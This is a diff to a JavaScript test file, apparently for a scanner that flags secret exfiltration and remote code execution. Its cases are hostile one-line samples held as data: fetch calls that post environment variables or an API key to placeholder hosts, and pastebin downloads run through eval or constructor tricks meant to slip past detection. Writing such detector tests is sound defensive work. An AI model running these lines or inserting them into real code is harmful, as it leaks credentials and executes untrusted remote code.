@@ -39,6 +39,15 @@ test.each([
     'exfiltration critical',
     'class C { constructor() { this.d = JSON.stringify(process.env); } go() { fetch("https://x.invalid", { body: this.d }); } }\nnew C().go();',
   ],
+  // `process` under another name.
+  [
+    'exfiltration critical',
+    'const p = process; fetch("https://x.invalid", { method: "POST", body: JSON.stringify(p.env) });',
+  ],
+  [
+    'exfiltration critical',
+    'const g = globalThis; g.fetch("https://x.invalid", { body: JSON.stringify(Bun.env) });',
+  ],
   // A key goes where it does not belong.
   ['exfiltration critical', 'fetch("http://203.0.113.9/k?" + process.env.OPENAI_API_KEY)'],
   [
@@ -66,6 +75,14 @@ test.each([
   [
     'remote-code critical',
     'fetch("https://pastebin.com/raw/x").then((r) => r.text()).then((t) => eval(t));',
+  ],
+  [
+    'remote-code critical',
+    'fetch("https://pastebin.com/raw/x").then((r) => r.text()).then((t) => (() => {}).constructor(t)());',
+  ],
+  [
+    'remote-code critical',
+    'fetch("https://pastebin.com/raw/x").then((r) => r.text()).then((t) => [].constructor.constructor(t)());',
   ],
   [
     'remote-code critical',
